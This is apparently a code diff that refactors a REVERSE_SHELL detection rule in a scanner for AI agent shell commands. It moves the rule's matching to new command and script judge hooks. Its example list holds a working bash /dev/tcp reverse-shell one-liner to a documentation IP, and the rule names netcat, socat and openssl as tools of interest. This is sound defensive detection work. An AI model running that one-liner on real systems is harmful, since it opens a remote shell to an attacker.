@@ -1,12 +1,11 @@
 import type { Severity } from '@ase/schemas'
 import { shellCall } from '../../examples.ts'
-import { hitsByCall, hitsByShell, worst, worstCommand } from '../../matching/hits.ts'
+import { hitsByCall, worst } from '../../matching/hits.ts'
 import type { Rule } from '../../rule.ts'
 import type { Command, Line } from '../../shell/command.ts'
 import { interpreters, shells } from '../../shell/interpreters.ts'
 import { hasOption } from '../../shell/options.ts'
-import type { ShellReading } from '../../shell/read-shell.ts'
-import { windowsHits } from '../../windows/windows-hits.ts'
+import { windowsCommands, windowsScripts } from '../../windows/windows-judges.ts'
 
 export const reverseShell: Rule = {
   code: 'REVERSE_SHELL',
@@ -21,11 +20,15 @@ export const reverseShell: Rule = {
     'https://gtfobins.github.io/#+reverse%20shell',
   ],
   mappings: { owasp: ['LLM06', 'ASI05'], cwe: ['CWE-78'] },
-  match: (reading) => [
-    ...hitsByShell(reading, judgeShell),
-    ...windowsHits(reading, 'REVERSE_SHELL'),
-    ...hitsByCall(reading, (call) => worst(call.codes().map(judgeCode))),
+  commands: () => [{ ...interest, judge: judgeCommand }, ...windowsCommands('REVERSE_SHELL')],
+  scripts: () => [
+    {
+      piped: true,
+      judge: ({ index }) => (index().pipes.some(joinsShellAndNetcat) ? 'high' : null),
+    },
+    ...windowsScripts('REVERSE_SHELL'),
   ],
+  match: (reading) => hitsByCall(reading, (call) => worst(call.codes().map(judgeCode))),
   examples: {
     flags: [
       shellCall('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'),
@@ -106,11 +109,6 @@ const hosts: ReadonlySet<string> = new Set([
 const interest = {
   names: new Set([...netcats, ...interpreters, ...hosts, 'socat', 'openssl', 'ztcp']),
   redirected: true,
-}
-
-function judgeShell({ index }: ShellReading): Severity | null {
-  if (index().pipes.some(joinsShellAndNetcat)) return 'high'
-  return worstCommand(index(), interest, judgeCommand)
 }
 
 function joinsShellAndNetcat({ commands }: Line): boolean {
